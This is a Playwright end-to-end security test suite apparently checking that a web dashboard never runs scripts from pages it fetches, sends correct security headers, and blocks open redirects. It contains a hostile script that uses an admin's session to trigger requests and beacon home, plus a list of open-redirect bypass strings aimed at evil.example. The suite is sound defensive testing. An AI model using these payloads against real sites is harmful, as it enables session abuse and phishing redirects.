import http from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import { freePort, startApp, type App } from "../support/app";
import { openPlayground } from "../support/playground";
import { E2E_STEP_TIMEOUT_MS } from "../support/e2e-timeouts";
import { signUpConfirmed } from "../support/accounts";

/**
 * The dashboard's origin against the pages it fetches (issue 8, docs/security.md), through
 * `next start` and real Chromium (needs `npx next build` first):
 * - a fetched page's script never runs on the app's origin, whether previewed in the Playground or
 *   opened from a result link by a signed-in admin; the same script, run on its own origin or
 *   planted on the app's origin, is seen doing all it tries (so the test would see it);
 * - security headers on pages, Docs and API answers;
 * - the open-redirect forms of callbackUrl all land on the app's origin;
 * - the PAGE_TEST_HOSTS start-up warning, and refusal of a non-loopback address.
 */
const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/lib/chromium/chromium";
const EMAIL = `admin+${Date.now()}@example.com`;
const PASSWORD = "correct horse battery";

/** What the hostile page tried, as seen by its own server. */
interface Hit {
  path: string;
  from: string;
}

/**
 * A site anyone could publish. Its script alerts, reports that it ran (an image beacon to its own
 * server, with the origin it ran on) and uses the visitor's session to make the dashboard fetch a
 * page of its choice (which its server then sees as /pwned).
 */
function hostileScript(site: string, app: string, projectId: string): string {
  return `(function () {
  var from = encodeURIComponent(location.origin);
  new Image().src = ${JSON.stringify(site)} + "/ran?from=" + from;
  fetch(${JSON.stringify(app)} + "/api/dashboard/playground", {
    method: "POST",
    credentials: "include",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      projectId: ${JSON.stringify(projectId)},
      endpoint: "html",
      body: { url: "http://hostile.test/pwned?from=" + from, sync: false },
    }),
  }).catch(function () {});
  alert("script ran on " + location.origin);
})();`;
}

/** A 1×1 PNG. */
const DOT_PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
/** Relative addresses under a declared <base>: what the preview must still show. */
const GALLERY = `<!doctype html><html><head><meta charset="utf-8"><base href="/assets/"><title>Gallery</title></head>
<body><h1>Gallery</h1><img id="dot" src="dot.png" width="40" height="40" alt="dot"></body></html>`;

async function startHostileSite() {
  const port = await freePort();
  const state = { app: "", projectId: "", hits: [] as Hit[] };
  const site = `http://127.0.0.1:${port}`;
  const page = () =>
    `<!doctype html><html><head><meta charset="utf-8"><title>A harmless looking page</title></head>
<body><h1>A harmless looking page</h1><p>Nothing to see here.</p>
<script>${hostileScript(site, state.app, state.projectId)}</script></body></html>`;
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? "/", site);
    if (url.pathname === "/ran" || url.pathname === "/pwned") {
      state.hits.push({ path: url.pathname, from: url.searchParams.get("from") ?? "" });
    }
    if (url.pathname === "/ran") return void res.writeHead(204).end();
    if (url.pathname === "/assets/dot.png")
      return void res.writeHead(200, { "content-type": "image/png" }).end(Buffer.from(DOT_PNG, "base64"));
    if (url.pathname === "/gallery/")
      return void res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(GALLERY);
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(page());
  });
  const sockets = new Set<import("node:net").Socket>();
  server.on("connection", (s) => {
    sockets.add(s);
    s.on("close", () => sockets.delete(s));
  });
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
  return {
    url: site,
    hostsEnv: `127.0.0.1:${port}:${port}`,
    state,
    script: () => hostileScript(site, state.app, state.projectId),
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}

/** Hits made by a script running somewhere other than the fetching server's own browser. */
const visitorHits = (hits: Hit[]) => hits.filter((h) => h.from !== "http://hostile.test");

/** Lets anything a script would have done (beacon, fetch, the job it starts) arrive. */
const settle = () => new Promise((r) => setTimeout(r, 3000));

// Several steps of up to E2E_STEP_TIMEOUT_MS each: more than the suite's 60 s per test.
describe("the app's origin never runs what it fetched", { timeout: 180_000 }, () => {
  let site: Awaited<ReturnType<typeof startHostileSite>>;
  let app: App;
  let browser: Browser;
  let admin: BrowserContext;
  let page: Page;
  const dialogs: string[] = [];
  const cspViolations: string[] = [];

  beforeAll(async () => {
    site = await startHostileSite();
    [app, browser] = await Promise.all([
      startApp({ PAGE_TEST_HOSTS: site.hostsEnv, RESEND_API_KEY: "" }),
      // The admin's browser reaches *.test sites as the server's does (for the preview's images).
      chromium.launch({
        executablePath: CHROMIUM,
        args: [
          "--headless",
          "--no-sandbox",
          "--disable-gpu",
          `--host-resolver-rules=MAP *.test ${site.hostsEnv.split(":").slice(0, 2).join(":")}`,
        ],
      }),
    ]);
    site.state.app = app.url;
    admin = await browser.newContext({ viewport: { width: 1360, height: 900 } });
    admin.setDefaultTimeout(E2E_STEP_TIMEOUT_MS);
    page = await admin.newPage();
    page.on("dialog", (d) => {
      dialogs.push(`${new URL(page.url()).origin}: ${d.message()}`);
      void d.dismiss();
    });
    page.on("console", (m) => {
      if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text());
    });

    // The admin signs up (the first sign-up owns an organization and a project).
    await signUpConfirmed(page, app, {
      name: "Grace Admin",
      organization: "Hopper Inc",
      email: EMAIL,
      password: PASSWORD,
    });
    await openPlayground(page, app.url);
    site.state.projectId = await page.locator("#project").inputValue();
    expect(site.state.projectId).not.toBe("");
  });

  afterAll(async () => {
    if (process.env.E2E_LOGS) console.log(app?.logs.join(""));
    await browser?.close();
    await app?.stop();
    await site?.close();
  });

  it("control: the page's script runs on its own origin, and the test sees it", async () => {
    const own = await browser.newPage();
    const ownDialogs: string[] = [];
    own.on("dialog", (d) => {
      ownDialogs.push(d.message());
      void d.dismiss();
    });
    await own.goto(`${site.url}/hostile`);
    await expect.poll(() => ownDialogs).toEqual([`script ran on ${site.url}`]);
    await expect.poll(() => site.state.hits.some((h) => h.path === "/ran" && h.from === site.url)).toBe(true);
    await own.close();
  });

  it("control: planted on the app's origin, the same script would act with the admin's session", async () => {
    // page.evaluate runs it through the DevTools protocol, past the page's CSP: what an XSS would be.
    await page.goto(`${app.url}/dashboard`);
    await page.evaluate(site.script());
    await expect.poll(() => dialogs).toEqual([`${app.url}: script ran on ${app.url}`]);
    await expect.poll(() => site.state.hits.some((h) => h.path === "/ran" && h.from === app.url)).toBe(true);
    // The dashboard, driven by the script with the admin's cookie, fetched the attacker's page.
    await expect
      .poll(() => site.state.hits.some((h) => h.path === "/pwned" && h.from === app.url), {
        timeout: 45_000,
      })
      .toBe(true);
  }, 120_000);

  it("the Playground previews the page without running its script", async () => {
    dialogs.length = 0;
    site.state.hits.length = 0;
    await openPlayground(page, app.url);
    await page.selectOption("#endpoint", "html");
    await page.fill("#url", "http://hostile.test/hostile");
    await page.getByRole("button", { name: "Run html" }).click();
    await page.locator("[data-testid=html-preview]").waitFor({ timeout: 45_000 });
    await page.frameLocator("[data-testid=html-preview]").getByText("Nothing to see here.").waitFor();
    const sandbox = await page.locator("[data-testid=html-preview]").getAttribute("sandbox");
    expect(sandbox).not.toBeNull();
    expect(sandbox).not.toMatch(/allow-scripts|allow-same-origin/);
    // The result really carries the script: it is the page's markup.
    await page.getByRole("tab", { name: "Raw" }).click();
    await expect(page.locator("[data-testid=raw-result]").textContent()).resolves.toContain("alert(");
    await settle();
    expect(dialogs).toEqual([]);
    expect(visitorHits(site.state.hits)).toEqual([]);
  }, 120_000);

  it("the request's detail page previews the stored page without running its script", async () => {
    dialogs.length = 0;
    site.state.hits.length = 0;
    await page.goto(`${app.url}/dashboard/projects/${site.state.projectId}/requests?operation=html`);
    await page.locator("[data-testid=request-link]").first().click();
    await page.waitForURL(/\/requests\/[^/?]+$/);
    const preview = page.locator("[data-testid=request-result] [data-testid=html-preview]");
    await page.frameLocator("[data-testid=html-preview]").getByText("Nothing to see here.").waitFor();
    expect(await preview.getAttribute("sandbox")).toBe("");
    await settle();
    expect(dialogs).toEqual([]);
    expect(visitorHits(site.state.hits)).toEqual([]);
  }, 120_000);

  it("the preview still shows the page's own images, without a <base> (base-uri stays 'self')", async () => {
    cspViolations.length = 0;
    await openPlayground(page, app.url);
    await page.selectOption("#endpoint", "html");
    await page.fill("#url", "http://hostile.test/gallery/");
    await page.getByRole("button", { name: "Run html" }).click();
    const frame = page.frameLocator("[data-testid=html-preview]");
    await frame.getByText("Gallery").waitFor({ timeout: 45_000 });
    const img = frame.locator("#dot");
    await expect(img.getAttribute("src")).resolves.toBe("http://hostile.test/assets/dot.png");
    await expect
      .poll(() => img.evaluate((el) => (el as HTMLImageElement).naturalWidth), { timeout: 15_000 })
      .toBe(1);
    expect(await frame.locator("base").count()).toBe(0);
    expect(cspViolations).toEqual([]);
  }, 120_000);

  it("a result link sent to a signed-in admin downloads as inert data, never renders", async () => {
    dialogs.length = 0;
    site.state.hits.length = 0;
    await openPlayground(page, app.url);
    await page.selectOption("#endpoint", "html");
    await page.uncheck("#sync");
    await page.fill("#url", "http://hostile.test/hostile");
    await page.getByRole("button", { name: "Run html" }).click();
    await page.locator("[data-testid=job-status][data-phase=complete]").waitFor({ timeout: 45_000 });
    const token = (await page.locator("[data-testid=header-x-result-token]").first().textContent())?.trim();
    expect(token).toBeTruthy();
    const link = `${app.url}/api/dashboard/playground/result?${new URLSearchParams({
      projectId: site.state.projectId,
      token: token!,
    })}`;

    // The admin follows it: Chromium downloads the file and stays where it was (were it rendered,
    // goto would resolve with the page and its script would alert and call home).
    const tab = await admin.newPage();
    tab.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const downloaded = tab.waitForEvent("download", { timeout: 20_000 }).then(
      () => true,
      () => false,
    );
    const rendered = await tab.goto(link).catch(() => null); // "Download is starting" throws
    await settle();
    expect(dialogs).toEqual([]);
    expect(visitorHits(site.state.hits)).toEqual([]);
    expect(rendered).toBeNull();
    expect(await downloaded).toBe(true);
    expect(tab.url()).not.toContain("/api/dashboard/playground/result");

    // What the link answers: the stored HTML, as an attachment with a sandbox policy.
    const answer = await page.request.get(link);
    expect(answer.status()).toBe(200);
    expect(answer.headers()["content-type"]).toMatch(/^text\/html/);
    expect(answer.headers()["content-disposition"]).toMatch(/^attachment/);
    expect(answer.headers()["content-security-policy"]).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(answer.headers()["x-content-type-options"]).toBe("nosniff");
    expect(await answer.text()).toContain("alert(");
    await tab.close();
  }, 120_000);

  it("sends the security headers on pages, Docs and API answers", async () => {
    const pages = ["/dashboard", "/playground", "/docs", "/login"];
    const nonces = new Set<string>();
    for (const path of pages) {
      const res = await page.goto(`${app.url}${path}`);
      const h = res!.headers();
      const csp = h["content-security-policy"] ?? "";
      const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
      expect(nonce, path).toBeTruthy();
      nonces.add(nonce!);
      expect(csp).toContain("'strict-dynamic'");
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(h["x-content-type-options"]).toBe("nosniff");
      expect(h["referrer-policy"]).toBe("same-origin");
      expect(h["x-powered-by"]).toBeUndefined();
      // Every script the page was served with carries this request's nonce.
      const scripts = (await res!.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      for (const tag of scripts) expect(tag, path).toContain(`nonce="${nonce}"`);
    }
    expect(nonces.size).toBe(pages.length); // fresh for every request
    // Nothing the app itself ships was refused by its own policy.
    expect(cspViolations).toEqual([]);

    const { apiKey } = (await app.admin("org", "create", "--name", "Keyholder", "--plan", "pro")) as {
      apiKey: string;
    };
    const sync = await app.post("/html", { url: "http://hostile.test/hostile", sync: true }, apiKey);
    const asyncAccepted = await app.post("/api/html", { url: "http://hostile.test/hostile" }, apiKey);
    const asyncToken = ((await asyncAccepted.json()) as { token: string }).token;
    let stored: Response;
    do {
      await new Promise((r) => setTimeout(r, 500));
      stored = await app.get(`/result/${asyncToken}`, apiKey);
    } while (stored.status === 202);
    const answers = {
      sync,
      stored,
      unauthenticated: await app.get("/api/result/nothing"),
      health: await app.get("/api/health"),
      openapi: await app.get("/api/openapi.json"),
    };
    expect(sync.status).toBe(200);
    expect(stored.status).toBe(200);
    // The spec'd content type stays; the browser is told never to sniff or run it.
    expect(sync.headers.get("content-type")).toMatch(/^text\/html/);
    expect(stored.headers.get("content-type")).toMatch(/^text\/html/);
    expect(await sync.text()).toContain("alert(");
    for (const [name, res] of Object.entries(answers)) {
      expect(res.headers.get("x-content-type-options"), name).toBe("nosniff");
      const csp = res.headers.get("content-security-policy") ?? "";
      expect(csp, name).toMatch(/(^|;\s*)sandbox(;|$)/);
      expect(csp, name).toContain("default-src 'none'");
      expect(csp, name).toContain("frame-ancestors 'none'");
      expect(res.headers.get("referrer-policy"), name).toBe("same-origin");
      expect(res.headers.get("x-powered-by"), name).toBeNull();
    }
  }, 180_000);

  it("logs the PAGE_TEST_HOSTS warning at start", () => {
    expect(app.logs.join("")).toMatch(/PAGE_TEST_HOSTS is set: every \*\.test host resolves to this machine/);
  });
});

// Several steps of up to E2E_STEP_TIMEOUT_MS each: more than the suite's 60 s per test.
describe("callbackUrl after sign-in stays on the app's origin (Chromium)", { timeout: 180_000 }, () => {
  // Percent-encoded as they would sit in a link; Next.js decodes the query once.
  const ATTACKS = [
    "%2F%09%2Fevil.example",
    "%2F%2Fevil.example",
    "%5C%2Fevil.example",
    "%2F%5Cevil.example",
    "https%3A%2F%2Fuser%3Apass%40evil.example",
    "https%3Aevil.example",
    "%2F.%2F%2Fevil.example",
    "%252F%252Fevil.example",
    "javascript%3Aalert(1)",
  ];
  let app: App;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const foreign: string[] = [];

  beforeAll(async () => {
    [app, browser] = await Promise.all([
      startApp({ RESEND_API_KEY: "" }),
      chromium.launch({ executablePath: CHROMIUM, args: ["--headless", "--no-sandbox", "--disable-gpu"] }),
    ]);
    context = await browser.newContext();
    context.setDefaultTimeout(E2E_STEP_TIMEOUT_MS);
    // Any request, navigation or not, to a host other than the app's.
    context.on("request", (r) => {
      const url = new URL(r.url());
      if (url.protocol !== "data:" && url.origin !== app.url) foreign.push(r.url());
    });
    page = await context.newPage();
    page.on("dialog", (d) => {
      foreign.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    await signUpConfirmed(page, app, {
      name: "Redirect Tester",
      organization: "Redirects",
      email: EMAIL,
      password: PASSWORD,
    });
    await page.getByRole("button", { name: "Sign out" }).first().click();
    await page.waitForURL(/\/login/);
  });

  afterAll(async () => {
    await browser?.close();
    await app?.stop();
  });

  it("signing in with %2F%09%2Fevil.example lands on the dashboard", async () => {
    await page.goto(`${app.url}/login?callbackUrl=%2F%09%2Fevil.example`);
    await page.fill("#email", EMAIL);
    await page.fill("#password", PASSWORD);
    await page.click("button[type=submit]");
    await page.waitForURL(`${app.url}/dashboard`);
    await page.locator("h1").first().waitFor();
    expect(new URL(page.url()).origin).toBe(app.url);
    expect(foreign).toEqual([]);
  });

  it.each(ATTACKS)("signed in, /login?callbackUrl=%s stays on the origin", async (attack) => {
    foreign.length = 0;
    await page.goto(`${app.url}/login?callbackUrl=${attack}`).catch(() => {});
    await page.waitForLoadState("load");
    expect(new URL(page.url()).origin).toBe(app.url);
    expect(foreign).toEqual([]);
  });

  it("a same-origin callbackUrl is still honoured", async () => {
    await page.goto(`${app.url}/login?callbackUrl=%2Fdashboard%2Fsettings`);
    await page.waitForURL(`${app.url}/dashboard/settings`);
  });
});

describe("PAGE_TEST_HOSTS outside loopback", () => {
  it("stops the server at start with a message that says why", async () => {
    const err = await startApp({ PAGE_TEST_HOSTS: "10.1.2.3:80:443" }).then(
      async (app) => {
        await app.stop();
        return null;
      },
      (e: unknown) => e as Error,
    );
    expect(err?.message).toMatch(/server exited early/);
    expect(err?.message).toMatch(/PAGE_TEST_HOSTS may only map \.test hosts to a loopback address/);
  });
});
